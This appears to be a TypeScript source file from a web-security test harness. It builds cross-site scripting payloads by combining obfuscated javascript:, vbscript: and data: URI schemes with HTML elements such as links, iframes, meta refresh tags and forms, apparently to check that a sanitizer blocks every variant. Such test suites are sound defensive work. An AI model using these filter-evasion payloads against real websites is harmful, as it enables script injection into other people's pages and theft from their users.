// Links that would run, in every disguise of their scheme and on every element that takes one. They are clicked.
import type { Seed } from '../payloads'

const schemes: ((run: string) => string)[] = [
  (run) => `javascript:${run}`,
  (run) => `JaVaScRiPt:${run}`,
  (run) => `&#106;avascript:${run}`,
  (run) => `&#x6A;&#x61;vascript:${run}`,
  (run) => `java&#9;script:${run}`,
  (run) => `java&#10;script&#13;:${run}`,
  (run) => `&#1;javascript:${run}`,
  (run) => ` &#32; javascript:${run}`,
  (run) => `javascript&colon;${run}`,
  (run) => `javascript://%0a${run}`,
  (run) => `javascript://shop.test/%0D%0A${run}`,
  (run) => `vbscript:${run}`,
  (run) => `data:text/html,<script>${run}</script>`.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (run) => `data:text/html;base64,${Buffer.from(`<script>${run}</script>`).toString('base64')}`,
  (run) => `data:image/svg+xml,&lt;svg xmlns='http://www.w3.org/2000/svg' onload='${run}'/&gt;`,
  (run) => `data:application/xhtml+xml,&lt;html xmlns='http://www.w3.org/1999/xhtml'&gt;&lt;script&gt;${run}&lt;/script&gt;&lt;/html&gt;`,
  (run) => `view-source:javascript:${run}`,
  (run) => `jar:javascript:${run}!/`,
  (run) => `mhtml:javascript:${run}`,
  (run) => `feed:javascript:${run}`,
  (run) => `blob:null/${run}`,
  (run) => `filesystem:javascript:${run}`,
]

const holders: ((address: string) => string)[] = [
  (address) => `<a href="${address}">go</a>`,
  (address) => `<a href="${address}" target=_blank>go</a>`,
  (address) => `<a href="${address}" target=_top rel=opener>go</a>`,
  (address) => `<a xlink:href="${address}" href="${address}"><b>go</b></a>`,
  (address) => `<iframe src="${address}"></iframe>`,
  (address) => `<object data="${address}"></object>`,
  (address) => `<embed src="${address}">`,
  (address) => `<img src="${address}">`,
  (address) => `<meta http-equiv=refresh content="0;url=${address}">`,
  (address) => `<svg><a xlink:href="${address}"><text x=9 y=20>go</text></a></svg>`,
  (address) => `<link rel=stylesheet href="${address}">`,
  (address) => `<form action="${address}"><button>go</button></form>`,
  (address) => `<table background="${address}"><tr><td>x</table>`,
  (address) => `<p style="background:url(${address})">x</p>`,
]

/** Every scheme on the first two holders, and on three of the others in turn. */
export const addresses: Seed[] = schemes.flatMap((scheme, n) => {
  const others = [0, 4, 8].map((step) => holders[2 + ((n + step) % (holders.length - 2))])
  return [holders[n % 2], ...others].map((hold): Seed => ({ run }) => hold?.(scheme(run)) ?? '')
})
